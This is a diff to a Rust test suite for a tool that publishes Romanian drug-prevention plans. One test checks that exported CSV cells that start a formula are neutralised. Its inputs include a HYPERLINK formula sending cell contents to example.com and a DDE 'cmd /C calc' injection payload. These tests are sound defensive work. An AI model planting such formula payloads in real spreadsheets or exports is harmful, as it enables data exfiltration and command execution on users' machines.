@@ -407,12 +407,12 @@ fn sources_a_browser_could_run_are_refused() {
     let site = TestSite::minimal();
     site.overlay(&fixtures().join("regressions/sources_a_browser_could_run_are_refused"));
     let output = site.run(&["check"]);
-    let hint = "  = help: sources are published as plain text: save the text as UTF-8 in a `.txt` file; a browser could run or render any other type as part of the portal\n";
+    let hint = " = help: sources are published as plain text: save the text as UTF-8 in a `.txt` file; a browser could run or render any other type as part of the portal\n";
     let expected: String = ["html", "js", "svg"]
         .iter()
         .map(|ext| {
             format!(
-                "error: the source file `evil.{ext}` is not a `.txt` file\n --> content/sources/evil.{ext}\n{hint}\n"
+                "error: the source file `evil.{ext}` is not a `.txt` file\n--> content/sources/evil.{ext}\n{hint}\n"
             )
         })
         .collect::<String>()
@@ -505,28 +505,34 @@ fn csv_cells_that_start_a_formula_are_neutralised() {
 
     let activities = site.read("public/date/activitati.csv");
     let mut reader = csv::Reader::from_reader(activities.trim_start_matches('\u{feff}').as_bytes());
+    let header = reader.headers().unwrap().clone();
     let row = reader.records().next().unwrap().unwrap();
-    let cells: Vec<&str> = row.iter().collect();
-    assert_eq!(
-        cells[1..16],
-        [
-            r#"'=HYPERLINK("http://example.com/?"&A1,"clic")"#,
-            "plan-droguri",
-            "Acțiune strategică I REDUCEREA CERERII DE DROGURI",
-            "'+40 de școli incluse în program",
-            "'-Dezvoltarea intervențiilor de prevenire",
-            "og-1-os1-m1",
-            "'@SUM(1+1)*cmd|' /C calc'!A0",
-            "'- ; - 2024",
-            "'-2022",
-            "'+anual",
+    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
+    let expected = [
+        ("plan", r#"'=HYPERLINK("http://example.com/?"&A1,"clic")"#),
+        ("tip_plan", "plan-droguri"),
+        ("grupare", "Acțiune strategică I REDUCEREA CERERII DE DROGURI"),
+        ("obiectiv_general_text", "'+40 de școli incluse în program"),
+        ("obiectiv_specific_text", "'-Dezvoltarea intervențiilor de prevenire"),
+        ("activitate_id", "og-1-os1-m1"),
+        ("activitate_text", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("indicatori", "'- ; - 2024"),
+        ("termen", "'-2022"),
+        // A year read from "-2022" is a number, not text: the number column has no apostrophe.
+        ("an_inceput", "2022"),
+        ("termen_evaluare", "'+anual"),
+        (
+            "responsabili",
             "Centrul Regional de Prevenire, Evaluare și Consiliere Antidrog Cluj ; Direcția de Sănătate Publică Cluj ; Autoritățile administrației publice locale",
-            "",
-            "'=1+1",
-            "sna/prevenire-universala",
-            "",
-        ]
-    );
+        ),
+        ("parteneri", ""),
+        ("finantare", "'=1+1"),
+        ("obiectiv_national", "sna/prevenire-universala"),
+        ("note", ""),
+    ];
+    for (name, value) in expected {
+        assert_eq!(cell(name), value, "{name}");
+    }
 
     let json: serde_json::Value = serde_json::from_str(&site.read("public/date/planuri.json")).unwrap();
     let plan = &json["plans"][0];
@@ -904,8 +910,8 @@ fn windows_device_names_are_refused_as_ids() {
   = help: the site could not be copied to or served from Windows; add to the id, e.g. com1-1
 
 error: the file name `con` is a device name reserved by Windows
- --> content/plans/con.yaml
-  = help: the site could not be copied to or served from Windows; add to the name, e.g. con-1
+--> content/plans/con.yaml
+ = help: the site could not be copied to or served from Windows; add to the name, e.g. con-1
 
 2 errors
 "
@@ -926,8 +932,8 @@ fn symlinked_content_files_are_reported() {
     assert_eq!(
         stderr(&output),
         "error: this is a symbolic link, and symbolic links are not followed
- --> content/plans/legat.yaml
-  = help: copy the file into content/ instead of linking to it
+--> content/plans/legat.yaml
+ = help: copy the file into content/ instead of linking to it
 
 1 error
 "
@@ -1095,8 +1101,8 @@ fn a_warning_for_a_repeated_text_points_at_the_right_line() {
         stderr(&check),
         "\
 warning: specific objective 1.1. is not linked to a framework objective
- --> content/plans/cluj-droguri.yaml:27:1
-  = help: no framework objective is similar enough: the closest, sna/prevenire-universala, scores 0.09, below 0.42; link it by hand if the plan implements one, or leave it unlinked; `planportal suggest` lists them all
+--> content/plans/cluj-droguri.yaml:27:1
+ = help: no framework objective is similar enough: the closest, sna/prevenire-universala, scores 0.09, below 0.42; link it by hand if the plan implements one, or leave it unlinked; `planportal suggest` lists them all
 
 1 warning
 "
